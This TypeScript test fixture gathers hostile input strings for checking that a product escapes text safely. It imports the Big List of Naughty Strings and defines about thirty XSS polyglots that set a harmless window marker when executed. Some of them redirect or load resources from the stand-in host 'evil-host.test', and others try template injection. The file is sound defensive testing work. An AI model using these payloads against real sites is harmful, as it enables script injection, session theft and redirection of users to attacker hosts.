/** Hostile texts: the Big List of Naughty Strings, and common XSS payloads. */
import NAUGHTY from "big-list-of-naughty-strings/blns.json" with { type: "json" };
import type { Scale } from "./check.ts";

/** Set on `window` by any of these that is executed. */
export const MARK = "__xss";
export const EVIL = "evil-host.test";

const RUN = `window.${MARK}=1`;

export const POLYGLOTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `<svg onload=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover='${RUN}`,
  `javascript:${RUN}//`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>">`,
  `<details open ontoggle=${RUN}>`,
  `<math><mtext></p><img src onerror=${RUN}></mtext></math>`,
  `</title></textarea></style></noscript><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `\u2028<script>${RUN}</script>\u2029`,
  `<base href=https://${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL}/">`,
  `<link rel=stylesheet href=https://${EVIL}/x.css><img src=https://${EVIL}/x.png>`,
  `<form action=https://${EVIL}/><button autofocus>x</button></form>`,
  `https://${EVIL}/"onmouseover="${RUN}`,
  `//${EVIL}/..%2f<b>`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}#{${RUN}}<%= ${RUN} %>`,
  `{name, plural, one {<b>x</b>} other {#}} {count} '{`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `__proto__`,
  `\u202e<script>${RUN}</script>\ufeff`,
];

/** For the sample: one for each context that a text can break out of. */
const FEW = [0, 1, 2, 5, 7, 13, 23, 28];

export const polyglotsFor = (scale: Scale): readonly string[] =>
  scale === "whole" ? POLYGLOTS : FEW.map((at) => POLYGLOTS[at]!);

/** All 461 and the polyglots; a dozen for the sample. */
export function textsFor(scale: Scale): readonly string[] {
  if (scale === "whole") return [...POLYGLOTS, ...NAUGHTY];
  return [...polyglotsFor(scale), ...[40, 150, 300, 440].map((at) => NAUGHTY[at]!)];
}

/** The text as the product stores it. */
export const shown = (text: string): string => text.normalize("NFC").trim();

/** Joins as many texts as fit into a field of so many code points; longer ones are skipped. */
export function bunches(texts: readonly string[], length: number, between: string): string[] {
  const all: string[] = [];
  for (const text of texts.map(shown).filter(Boolean)) {
    if ([...text].length > length) continue;
    const joined = all.length ? all.at(-1)! + between + text : text;
    if (all.length && [...joined].length <= length) all[all.length - 1] = joined;
    else all.push(text);
  }
  return all;
}
